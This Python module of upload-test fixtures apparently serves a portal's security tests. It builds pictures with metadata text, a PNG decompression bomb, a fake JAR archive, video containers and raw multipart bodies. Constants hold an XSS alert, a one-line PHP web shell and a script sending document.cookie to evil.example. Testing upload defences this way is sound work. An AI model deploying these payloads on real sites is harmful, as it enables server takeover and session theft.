"""Files made in the tests (pictures, polyglots, video containers) and multipart bodies that carry
file names byte for byte, for the creator portal's upload tests."""

import io
import struct
import zipfile
import zlib

from PIL import ExifTags, Image
from PIL.PngImagePlugin import PngInfo

HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>fetch('//evil.example/?'+document.cookie)</script>"
BOUNDARY = "portal-upload-test-boundary"


def picture(fmt="PNG", size=(48, 36), **options):
    buffer = io.BytesIO()
    Image.new("RGB", size, (30, 110, 70)).save(buffer, format=fmt, **options)
    return buffer.getvalue()


def exif_with(text):
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "TestCam"
    exif[ExifTags.Base.ImageDescription] = text
    return exif.tobytes()


def png_with_text(text):
    info = PngInfo()
    info.add_text("Comment", text)
    info.add_itxt("Description", text)
    info.add_text("Author", text, zip=True)
    return picture(pnginfo=info)


def png_header(width, height):
    """A PNG that declares `width` × `height` pixels and holds almost nothing (a decompression bomb)."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def zip_archive():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Evil\n")
        archive.writestr("Evil.class", b"\xca\xfe\xba\xbe" + b"\0" * 64)
    return buffer.getvalue()


def box(kind, payload):
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4(brand=b"isom", trailing=b""):
    """An MP4 container as a camera writes it: ftyp, then moov and mdat boxes."""
    ftyp = box(b"ftyp", brand + b"\0\0\2\0" + b"isomiso2avc1mp41")
    return ftyp + box(b"moov", box(b"mvhd", bytes(100))) + box(b"mdat", bytes(4000)) + trailing


def ebml(element_id, payload):
    size = len(payload)
    return element_id + (bytes([0x80 | size]) if size < 127 else b"\x01" + size.to_bytes(7, "big")) + payload


def webm(doctype=b"webm", trailing=b""):
    header = ebml(b"\x1a\x45\xdf\xa3", ebml(b"\x42\x86", b"\x01") + ebml(b"\x42\x82", doctype))
    return header + ebml(b"\x18\x53\x80\x67", ebml(b"\x15\x49\xa9\x66", bytes(300))) + trailing


def truncated(data):
    return data[: len(data) // 2]


NOISE = Image.effect_noise((160, 120), 60).convert("RGB")


def noisy(fmt):
    buffer = io.BytesIO()
    NOISE.save(buffer, format=fmt)
    return buffer.getvalue()


def multipart(fields, files):
    """A multipart body with each file name exactly as given (Django's test client would strip it)."""
    parts = []
    for name, value in fields.items():
        for item in value if isinstance(value, list) else [value]:
            header = f'Content-Disposition: form-data; name="{name}"'.encode()
            parts += [f"--{BOUNDARY}".encode(), header, b"", str(item).encode()]
    for name, (filename, content) in files.items():
        parts += [
            f"--{BOUNDARY}".encode(),
            f'Content-Disposition: form-data; name="{name}"; filename="{filename}"'.encode(),
            b"Content-Type: application/octet-stream",
            b"",
            content,
        ]
    return b"\r\n".join([*parts, f"--{BOUNDARY}--".encode(), b""])


def post_files(client, url, fields, files):
    body = multipart(fields, files)
    return client.post(url, data=body, content_type=f"multipart/form-data; boundary={BOUNDARY}")


def rows(count=3, **fields):
    return {
        "images-TOTAL_FORMS": count,
        "images-INITIAL_FORMS": 0,
        "images-MIN_NUM_FORMS": 0,
        "images-MAX_NUM_FORMS": 20,
        **fields,
    }


TRANSCRIPT = "<p>视频讲的是高原上水的沸点。</p>"
